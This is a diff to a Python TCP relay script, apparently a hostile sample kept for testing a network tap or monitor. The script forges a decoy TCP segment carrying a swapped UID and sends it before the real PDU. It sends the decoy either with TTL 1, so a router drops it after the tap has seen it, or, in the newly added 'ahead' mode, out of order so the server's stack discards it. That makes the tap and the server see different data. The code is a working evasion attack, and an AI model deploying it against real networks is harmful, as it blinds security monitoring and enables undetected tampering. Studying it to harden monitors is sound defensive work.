@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""A TCP relay that puts a low-TTL decoy before one segment it forwards: the attacker's host of
+"""A TCP relay that puts a decoy before one segment it forwards: the attacker's host of
 scripts/samples/hostile-tcp/make-ttl-decoy.
 
 Usage: ttl_relay.py LISTEN_PORT SERVER_HOST SERVER_PORT IFACE MODE
@@ -11,6 +11,10 @@ Usage: ttl_relay.py LISTEN_PORT SERVER_HOST SERVER_PORT IFACE MODE
               segment, a correct checksum and IP TTL 1: the router between this host and the
               server drops it (ICMP time exceeded) after the tap saw it. Then forward the real PDU.
               The sequence numbers are learnt by sniffing the connection on IFACE.
+  MODE ahead: the same decoy copy with an ordinary TTL, but only its part from 4 bytes before
+              the UID to the PDU's end, at its own sequence number within the PDU: out of order,
+              ahead of the PDU's first bytes. The server's stack queues it; the real PDU then
+              comes in order over it, and the stack takes that whole and drops the queued copy.
 
 One connection, then exit. TCP_NODELAY on the server side, so each send is its own segment.
 """
@@ -55,7 +59,7 @@ def main():
     t = threading.Thread(target=back)
     t.start()
     buf = b""
-    injected = mode != "decoy"
+    injected = mode not in ("decoy", "ahead")
     while data := cli.recv(65536):
         if injected:
             srv.sendall(data)
@@ -72,9 +76,11 @@ def main():
                 seq = out[TCP].seq + len(out[TCP].payload) + (1 if "S" in str(out[TCP].flags) else 0)
                 ack = inc[TCP].seq + len(inc[TCP].payload) + (1 if "S" in str(inc[TCP].flags) else 0)
                 opts = [(k, v) for k, v in out[TCP].options if k in ("NOP", "Timestamp")]
-                decoy = IP(src=out[IP].src, dst=host, ttl=1) / TCP(
-                    sport=out[TCP].sport, dport=sport, seq=seq, ack=ack, flags="PA",
-                    window=out[TCP].window, options=opts) / Raw(pdu.replace(REAL_UID, DECOY_UID))
+                fake = pdu.replace(REAL_UID, DECOY_UID)
+                k, ttl = (fake.index(DECOY_UID) - 4, out[IP].ttl) if mode == "ahead" else (0, 1)
+                decoy = IP(src=out[IP].src, dst=host, ttl=ttl) / TCP(
+                    sport=out[TCP].sport, dport=sport, seq=(seq + k) % 2**32, ack=ack, flags="PA",
+                    window=out[TCP].window, options=opts) / Raw(fake[k:])
                 send(decoy, iface=iface, verbose=False)
                 time.sleep(0.05)
                 srv.sendall(pdu)
@@ -88,7 +94,7 @@ def main():
     t.join()
     time.sleep(0.3)
     sniffer.stop()
-    print("injected" if injected and mode == "decoy" else "plain", flush=True)
+    print("injected" if injected and mode != "plain" else "plain", flush=True)
 
 
 if __name__ == "__main__":
